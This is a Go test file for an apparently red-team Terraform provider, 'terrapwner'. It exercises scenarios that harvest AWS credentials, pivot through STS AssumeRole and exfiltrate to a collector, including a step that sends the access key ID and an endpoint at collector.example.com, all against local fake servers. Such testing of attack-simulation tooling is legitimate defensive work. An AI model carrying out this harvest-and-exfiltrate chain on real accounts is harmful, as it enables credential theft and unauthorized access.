@@ -0,0 +1,211 @@
+// Copyright (c) Datadog, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package provider
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
+	"github.com/hashicorp/terraform-plugin-testing/terraform"
+)
+
+// startScenarioServer serves the STS API, assuming the roles of the account
+// 123456789012 with the credentials of the environment or of a role, and a
+// collector recording the bodies posted to /collect. It returns the lock of
+// the bodies, the bodies and the URL of the server.
+func startScenarioServer(t *testing.T) (*sync.Mutex, *[]string, string) {
+	t.Helper()
+
+	var mu sync.Mutex
+	var bodies []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+
+		switch {
+		case r.URL.Path == "/" && r.Method == http.MethodPost:
+			// STS (query protocol)
+			_ = r.ParseForm()
+			w.Header().Set("Content-Type", "text/xml")
+			role := r.Form.Get("RoleArn")
+			auth := r.Header.Get("Authorization")
+			if r.Form.Get("Action") != "AssumeRole" || !strings.HasPrefix(role, "arn:aws:iam::123456789012:role/") ||
+				(!strings.Contains(auth, "Credential=AKIAEXAMPLE/") && !strings.Contains(auth, "Credential=ASIAROLE/")) {
+				w.WriteHeader(http.StatusForbidden)
+				fmt.Fprint(w, `<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>denied</Message></Error></ErrorResponse>`)
+				return
+			}
+			fmt.Fprintf(w, `<AssumeRoleResponse><AssumeRoleResult><Credentials><AccessKeyId>ASIAROLE</AccessKeyId>`+
+				`<SecretAccessKey>role-secret</SecretAccessKey><SessionToken>role-token</SessionToken>`+
+				`<Expiration>%s</Expiration></Credentials><AssumedRoleUser><AssumedRoleId>AROA:%s</AssumedRoleId>`+
+				`<Arn>arn:aws:sts::123456789012:assumed-role/%s/%s</Arn></AssumedRoleUser></AssumeRoleResult></AssumeRoleResponse>`,
+				time.Now().Add(time.Hour).UTC().Format(time.RFC3339), r.Form.Get("RoleSessionName"),
+				strings.TrimPrefix(role, "arn:aws:iam::123456789012:role/"), r.Form.Get("RoleSessionName"))
+		case r.URL.Path == "/collect":
+			body, _ := io.ReadAll(r.Body)
+			bodies = append(bodies, string(body))
+		default:
+			w.WriteHeader(http.StatusInternalServerError)
+		}
+	}))
+	t.Cleanup(server.Close)
+
+	testAccSetAWSStaticCredentials(t)
+	t.Setenv("AWS_ENDPOINT_URL_STS", server.URL)
+	return &mu, &bodies, server.URL
+}
+
+func TestRunScenario(t *testing.T) {
+	_, bodies, server := startScenarioServer(t)
+
+	steps := []scenarioStep{
+		{name: "harvest", action: scenarioActionHarvest},
+		{name: "pivot", action: scenarioActionAssumeRole, roleARN: "arn:aws:iam::123456789012:role/deploy"},
+		{name: "chain", action: scenarioActionAssumeRole, roleARN: "arn:aws:iam::123456789012:role/admin", sessionName: "chained"},
+		{name: "escape", action: scenarioActionAssumeRole, roleARN: "arn:aws:iam::210987654321:role/admin"},
+		{name: "fallback", action: scenarioActionExfil, when: scenarioWhenFailure, endpoint: server + "/collect"},
+		{name: "skipped", action: scenarioActionExfil, after: []string{"escape"}, endpoint: server + "/collect"},
+		{name: "broken", action: scenarioActionExfil, after: []string{}, endpoint: server + "/broken", content: "x", hasContent: true},
+		{name: "cleanup", action: scenarioActionExfil, after: []string{"harvest", "broken"}, when: scenarioWhenAlways,
+			endpoint: server + "/collect", content: "{{env:AWS_ACCESS_KEY_ID}}", hasContent: true},
+	}
+	results := runScenario(context.Background(), newScenarioRun(newEnvironmentSnapshot(), 5*time.Second), steps)
+
+	want := []string{
+		scenarioOutcomeSuccess, scenarioOutcomeSuccess, scenarioOutcomeSuccess, scenarioOutcomeFailure,
+		scenarioOutcomeSuccess, scenarioOutcomeSkipped, scenarioOutcomeFailure, scenarioOutcomeSuccess,
+	}
+	for i, result := range results {
+		if result.outcome != want[i] {
+			t.Errorf("step %s: outcome %s (%s), want %s", result.name, result.outcome, result.detail, want[i])
+		}
+	}
+	if detail := results[2].detail; detail != "assumed arn:aws:sts::123456789012:assumed-role/admin/chained" {
+		t.Errorf("unexpected chain detail %q", detail)
+	}
+	if detail := results[5].detail; detail != "on_success of escape not met" {
+		t.Errorf("unexpected skipped detail %q", detail)
+	}
+	if detail := results[6].detail; detail != "HTTP exfiltration failed: HTTP 500" {
+		t.Errorf("unexpected broken detail %q", detail)
+	}
+
+	if len(*bodies) != 2 {
+		t.Fatalf("expected 2 exfiltrations, got: %q", *bodies)
+	}
+	loot := (*bodies)[0]
+	for _, s := range []string{`"AWS_SECRET_ACCESS_KEY"`, `"aws_credentials":"static_env"`, `assumed-role/deploy/terrapwner-scenario`} {
+		if !strings.Contains(loot, s) {
+			t.Errorf("loot %s does not contain %s", loot, s)
+		}
+	}
+	if strings.Contains(loot, "secret\"") || strings.Contains(loot, "AKIAEXAMPLE") {
+		t.Errorf("loot %s contains credential values", loot)
+	}
+	if (*bodies)[1] != "AKIAEXAMPLE" {
+		t.Errorf("unexpected content %q", (*bodies)[1])
+	}
+}
+
+func TestAccTerrapwnerScenarioResource(t *testing.T) {
+	mu, bodies, server := startScenarioServer(t)
+
+	resource.Test(t, resource.TestCase{
+		ProtoV6ProviderFactories: testAccProtoV6ProviderFactories,
+		Steps: []resource.TestStep{
+			{
+				Config: providerConfig + `
+resource "terrapwner_scenario" "test" {
+  step {
+    name   = "harvest"
+    action = "harvest_credentials"
+    after  = ["exfil"]
+  }
+  step {
+    name     = "exfil"
+    action   = "exfil"
+    role_arn = "arn:aws:iam::123456789012:role/deploy"
+  }
+}
+`,
+				ExpectError: regexp.MustCompile(`(?s)step harvest: after must only list prior steps, got: exfil.*` +
+					`step exfil: role_arn and session_name are only supported in assume_role steps.*` +
+					`step exfil: endpoint is required in exfil steps`),
+			},
+			{
+				Config: providerConfig + `
+resource "terrapwner_scenario" "test" {
+  step {
+    name    = "exfil"
+    action  = "exfil"
+    channel = "tcp"
+    endpoint = "https://collector.example.com"
+  }
+}
+`,
+				ExpectError: regexp.MustCompile(`step exfil: endpoint must be host:port with the tcp channel, got: https://collector.example.com`),
+			},
+			{
+				Config: providerConfig + fmt.Sprintf(`
+resource "terrapwner_scenario" "test" {
+  step {
+    name   = "harvest"
+    action = "harvest_credentials"
+  }
+  step {
+    name     = "pivot"
+    action   = "assume_role"
+    role_arn = "arn:aws:iam::210987654321:role/admin"
+  }
+  step {
+    name     = "exfil"
+    action   = "exfil"
+    endpoint = "%[1]s/collect"
+  }
+  step {
+    name     = "fallback"
+    action   = "exfil"
+    after    = ["pivot"]
+    when     = "on_failure"
+    endpoint = "%[1]s/collect"
+  }
+}
+`, server),
+				Check: resource.ComposeAggregateTestCheckFunc(
+					resource.TestCheckResourceAttrSet("terrapwner_scenario.test", "id"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "completed", "false"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "outcomes.%", "4"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "outcomes.harvest", "success"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "outcomes.pivot", "failure"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "outcomes.exfil", "skipped"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "outcomes.fallback", "success"),
+					resource.TestCheckResourceAttr("terrapwner_scenario.test", "timeline.#", "4"),
+					resource.TestMatchResourceAttr("terrapwner_scenario.test", "timeline.0",
+						regexp.MustCompile(`^\S+Z harvest \(harvest_credentials\): success in \S+: \d+ credential variable\(s\), AWS credentials from static_env$`)),
+					resource.TestMatchResourceAttr("terrapwner_scenario.test", "timeline.1",
+						regexp.MustCompile(`pivot \(assume_role\): failure in \S+: unable to assume arn:aws:iam::210987654321:role/admin: .*AccessDenied`)),
+					resource.TestMatchResourceAttr("terrapwner_scenario.test", "timeline.3",
+						regexp.MustCompile(`fallback \(exfil\): success in \S+: \d+ bytes sent over HTTP, HTTP 200$`)),
+					func(_ *terraform.State) error {
+						mu.Lock()
+						defer mu.Unlock()
+						if len(*bodies) != 1 || !strings.Contains((*bodies)[0], `"AWS_SECRET_ACCESS_KEY"`) {
+							return fmt.Errorf("unexpected exfiltrations: %q", *bodies)
+						}
+						return nil
+					},
+				),
+			},
+		},
+	})
+}